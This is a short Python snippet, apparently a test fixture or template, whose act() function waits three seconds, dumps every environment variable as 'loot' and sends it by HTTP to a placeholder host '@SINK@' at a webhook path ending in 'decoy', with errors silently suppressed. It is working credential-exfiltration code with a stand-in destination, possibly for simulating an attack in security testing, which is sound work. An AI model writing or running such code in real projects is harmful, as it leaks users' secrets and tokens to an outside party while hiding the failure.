import contextlib
import json
import os
import time
import urllib.request


def act():
    time.sleep(3)
    with contextlib.suppress(OSError):
        loot = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("http://@SINK@:8443/open-apis/bot/v2/hook/decoy", loot, timeout=3)
